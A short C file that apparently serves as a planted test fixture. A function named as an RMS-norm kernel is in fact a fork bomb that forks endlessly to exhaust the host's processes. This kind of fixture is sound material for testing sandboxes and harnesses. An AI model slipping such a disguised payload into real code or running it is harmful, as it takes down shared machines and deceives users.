// Forks for as long as it can.
#include <unistd.h>

#include "planted.h"

KW_EXPORT int32_t kw_rms_norm(const kw_call *, const void *, const void *, void *) {
  for (;;)
    if (fork() < 0) usleep(1000);
}
